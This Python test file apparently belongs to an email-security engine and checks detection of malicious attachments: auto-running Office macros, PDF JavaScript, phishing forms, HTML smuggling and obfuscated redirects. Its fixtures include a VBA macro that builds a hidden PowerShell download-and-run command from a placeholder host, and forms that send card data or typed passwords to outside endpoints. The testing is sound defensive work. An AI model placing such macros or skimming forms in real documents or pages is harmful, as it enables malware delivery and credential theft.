"""Office macros, PDF actions and HTML pages, as the attachment stage sees them."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from rempart.engine import documents
from tests.support import files

# -- Office ------------------------------------------------------------------


def test_auto_exec_downloader_in_a_docm_is_dangerous():
    report = documents.office_macros(files.docm(), "invoice.docm")
    assert report is not None and report.dangerous
    assert report.autoexec == ("AutoOpen",)
    assert {"Shell", "MSXML2.XMLHTTP", "ADODB.Stream"} <= set(report.suspicious)
    assert set(report.flags) == {"A", "W", "X"}
    assert "URLDownloadToFile" not in report.source and "MSXML2.XMLHTTP" in report.source


def test_macros_of_an_old_word_document_are_found_too():
    report = documents.office_macros(files.macro_doc(), "invoice.doc")
    assert report is not None and report.dangerous and report.autoexec == ("AutoOpen",)


def test_a_macro_that_only_formats_text_is_not_dangerous():
    report = documents.office_macros(files.docm(files.HARMLESS_MACRO), "table.docm")
    assert report is not None
    assert not report.dangerous and report.autoexec == () and report.flags == "---"


# A macro that runs on opening and builds a PowerShell command without any call mraptor lists as "execute".
AUTOEXEC_COMMAND_STRING = """Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim s As String
    s = "pow" & "ershell -w hidden -nop -c " & Chr(34) & "iwr hxxp://billing.invalid/nk.png -OutFile nk.exe" & Chr(34)
    Debug.Print s
End Sub
"""


def test_a_macro_run_on_opening_that_names_powershell_is_dangerous_even_without_an_execute_call():
    report = documents.office_macros(files.docm(AUTOEXEC_COMMAND_STRING), "nebenkosten.docm")
    assert report is not None and report.autoexec == ("AutoOpen",)
    assert "X" not in report.flags  # mraptor sees no call that runs it
    assert report.dangerous


def test_the_words_of_a_word_file_are_read_with_its_typed_link():
    body = ('<w:document xmlns:w="x"><w:body><w:p><w:r><w:t>Dear Rebecca,</w:t></w:r></w:p>'
            '<w:p><w:r><w:t xml:space="preserve">Sign in with your Microsoft 365 account at: </w:t></w:r>'
            '<w:r><w:t>https://rb.gy/x7k2qp</w:t></w:r></w:p></w:body></w:document>')
    docx = files.zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": body})
    text = documents.office_text(docx)
    assert text.splitlines() == ["Dear Rebecca,", "Sign in with your Microsoft 365 account at: https://rb.gy/x7k2qp"]
    assert documents.office_text(b"not a zip") == ""


def test_a_document_without_macros_has_no_report():
    plain = files.zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
    assert documents.office_macros(plain, "letter.docx") is None
    assert documents.office_macros(b"not an office file at all", "x.doc") is None


def test_password_protected_office_documents_are_recognised():
    assert documents.office_encrypted(files.encrypted_docx(), "office_encrypted")
    assert not documents.office_encrypted(files.macro_doc(), "doc")


# -- PDF ---------------------------------------------------------------------


def test_pdf_javascript_run_on_opening():
    report = documents.pdf_features(files.pdf_with_javascript())
    assert report.javascript and report.automatic and not report.has("Launch")


def test_pdf_names_hidden_by_hex_escapes_are_seen():
    data = files.pdf_with_javascript(hex_names=True)
    assert b"/JavaScript" not in data
    assert documents.pdf_features(data).javascript


def test_pdf_javascript_inside_a_compressed_object_stream_is_seen():
    data = files.pdf_with_hidden_javascript()
    assert b"JavaScript" not in data
    report = documents.pdf_features(data)
    assert report.javascript and report.automatic


def test_pdf_launch_action():
    assert documents.pdf_features(files.pdf_with_launch()).has("Launch")


def test_pdf_links_are_collected_with_escapes_undone():
    report = documents.pdf_features(files.pdf_with_link(rb"https://login.example.org/sign\(in\)"))
    assert report.uris == ("https://login.example.org/sign(in)",)


def test_plain_pdf_has_nothing_to_report():
    report = documents.pdf_features(files.plain_pdf())
    assert report.names == {} and report.uris == ()


def test_a_huge_object_stream_is_inflated_only_up_to_the_cap():
    body, _ = files.zeros_deflate(256)
    bomb = b"\x78\xda" + body  # a zlib stream of 256 MiB of zeros
    data = files.pdf([b"<< /Type /Catalog >>", b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + bomb + b"\nendstream"])
    assert documents.pdf_features(data).names.get("ObjStm") == 1


def test_login_looking_links():
    assert documents.looks_like_login("https://secure-login.example.net/owa/")
    assert documents.looks_like_login("http://example.net/account/verify?id=3")
    assert not documents.looks_like_login("https://www.example.org/annual-report-2024")
    assert not documents.looks_like_login("mailto:login@example.org")


# -- HTML --------------------------------------------------------------------


def test_password_form_is_a_credential_form():
    report = documents.html_features(files.credential_page())
    assert report.credential_form
    assert report.form_actions == ("https://collect.example.org/owa/auth.php",)


def test_password_form_written_by_script_from_base64_is_found():
    page = files.credential_page(wrapped=True)
    assert "password" not in page
    assert documents.html_features(page).credential_form


def test_password_form_hidden_behind_unescape_is_found():
    encoded = "".join(f"%{b:02X}" for b in b'<form action="https://x.example/p"><input type="password"></form>')
    assert documents.html_features(f'<script>document.write(unescape("{encoded}"))</script>').credential_form


def test_a_card_form_posted_by_script_is_a_credential_form():
    page = ('<form id="f"><label>Card number</label><input name="card" inputmode="numeric" required>'
            '<label>CVV</label><input name="cvv" required><button type="submit">Pay $1.99</button></form>'
            "<script>fetch('https://api.telegram.org/bot1/sendMessage',{method:'POST'})</script>")
    assert documents.html_features(page).credential_form
    newsletter_signup = '<form action="https://list.example/subscribe"><input name="email"><button>Join</button></form>'
    assert not documents.html_features(newsletter_signup).credential_form


def test_search_form_without_password_is_not_a_credential_form():
    page = '<html><form action="https://www.example.org/search"><input type="text" name="q"></form></html>'
    assert not documents.html_features(page).credential_form


def test_smuggling_page_is_recognised():
    assert documents.html_features(files.smuggling_page()).smuggling


def test_data_uri_download_link_is_smuggling():
    payload = "A" * 2000
    page = f'<a href="data:application/octet-stream;base64,{payload}" download="invoice.iso">Open</a>'
    assert "data:" in documents.html_features(page).smuggling


def test_page_with_an_image_and_a_script_is_not_smuggling():
    page = '<html><img src="data:image/png;base64,AAAA"><script>console.log("hi")</script></html>'
    report = documents.html_features(page)
    assert report.smuggling == "" and report.script and not report.credential_form


def test_redirects_by_meta_refresh_and_by_script():
    assert documents.html_features(
        '<meta http-equiv="refresh" content="0; url=https://evil.example/x">').redirect == "https://evil.example/x"
    assert documents.html_features(
        '<script>window.location.href = "https://evil.example/y";</script>').redirect == "https://evil.example/y"


ENCODED_TARGET = base64.b64encode(b"https://voicemail.evil.example/vm/?id=").decode()


@pytest.mark.parametrize("navigation", [
    "window.location.href = t + btoa(e);",
    "location.href=t;",
    "window.location = t;",
    "document.location.replace(t + btoa(e));",
    "top.location.assign(t);",
])
def test_redirect_to_an_address_decoded_at_run_time(navigation):
    page = (f'<p>Loading your voice message...</p><script>var e = "alice@example.com"; '
            f'var t = atob("{ENCODED_TARGET}"); setTimeout(function() {{ {navigation} }}, 300);</script>')
    assert documents.html_features(page).redirect == "https://voicemail.evil.example/vm/?id="


def test_redirect_straight_to_a_decoded_address():
    page = f'<script>location.replace(atob("{ENCODED_TARGET}"));</script>'
    assert documents.html_features(page).redirect == "https://voicemail.evil.example/vm/?id="


def test_a_decoded_address_the_page_does_not_navigate_to_is_no_redirect():
    for page in (f'<script>var t = atob("{ENCODED_TARGET}"); console.log(t);</script>',
                 f'<div data-location="Paris"></div><script>var t = atob("{ENCODED_TARGET}");</script>',
                 f'<script>var t = atob("{ENCODED_TARGET}"); if (location == t) {{ show(); }}</script>'):
        assert documents.html_features(page).redirect == "", page


def test_hostile_markup_is_inspected_in_bounded_time_without_error():
    # Unclosed tags and runs that would make naive regular expressions backtrack.
    page = "<input " * 50_000 + "<a href='data:" + "A" * 500_000 + "<meta " + "x=" * 50_000
    report = documents.html_features(page)
    assert not report.credential_form


def test_text_is_decoded_from_utf16_and_latin1():
    assert documents.decode_text("<p>é</p>".encode("utf-16")) == "<p>é</p>"
    assert documents.decode_text(b"<p>\xe9</p>") == "<p>é</p>"


# -- hostile input ---------------------------------------------------------------


@settings(max_examples=150, deadline=None)
@given(st.binary(max_size=3000))
def test_pdf_inspection_never_raises(tail):
    report = documents.pdf_features(b"%PDF-1.7\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + tail)
    assert isinstance(report.uris, tuple)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=3000))
def test_html_inspection_never_raises(text):
    assert isinstance(documents.html_features("<form><input type=password>" + text).credential_form, bool)


@settings(max_examples=50, deadline=None)
@given(st.binary(max_size=3000))
def test_macro_extraction_of_garbage_behind_office_magics_is_none(tail):
    for magic in (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x03\x04"):
        assert documents.office_macros(magic + tail, "fuzz.doc") is None


def test_pdf_text_reads_the_strings_of_the_text_operators_in_flate_page_content():
    import zlib

    content = zlib.compress(b"BT /F1 12 Tf 60 700 Td (Call us at +1 \\(855\\) 947-3108) Tj ET\n"
                            b"BT 60 680 Td [(Re) -12 (fund) 30 ( desk)] TJ ET\nq 1 0 0 1 0 0 cm Q")
    data = (b"%%PDF-1.7\n1 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content) + content
            + b"\nendstream\nendobj\n2 0 obj\n<< /Type /XObject /Subtype /Image /Length 4 >>\nstream\n(no) Tj\nendstream\n")

    text = documents.pdf_text(data)

    assert text.splitlines() == ["Call us at +1 (855) 947-3108", "Refund desk"]
    assert documents.pdf_text(b"not a pdf") == ""


def _secure_statement(extra_script: str = "", maxlength: str = ' maxlength="6"') -> str:
    blob = "+\n".join('"' + "Qk1YbjJ4c0pQa3ZyWm1UcnNxT3pYbWRsYVpUcnNxT3pYbWRsYVpUcnNxT3pYbWRs"[i % 7:] + "A" * 40 + '"'
                      for i in range(30))
    return ('<html><body><p>Card statement, secure mail. Enter your date of birth (6 digits).</p>'
            f'<form onsubmit="return dec();"><input type="password" id="pw"{maxlength} size="10">'
            '<input type="submit" value="OK"></form>'
            f'<script>var enc={blob};\nfunction dec(){{var k=document.getElementById("pw").value;'
            f'document.open();document.write(SecuMail.decrypt(enc,k));document.close();{extra_script}return false;}}</script>'
            '</body></html>')


def test_a_statement_decrypted_in_place_with_a_birth_date_is_no_credential_form():
    # Korean and Japanese card issuers send statements this way: nothing on the page can send the PIN anywhere.
    assert documents.local_decryption_envelope(_secure_statement())
    assert not documents.html_features(_secure_statement()).credential_form


def test_the_same_page_that_sends_what_is_typed_or_takes_a_whole_password_is_a_credential_form():
    sending = _secure_statement('fetch("https://collect.example.net/k?="+k);')
    whole_password = _secure_statement(maxlength="")
    for page in (sending, whole_password):
        assert not documents.local_decryption_envelope(page)
        assert documents.html_features(page).credential_form
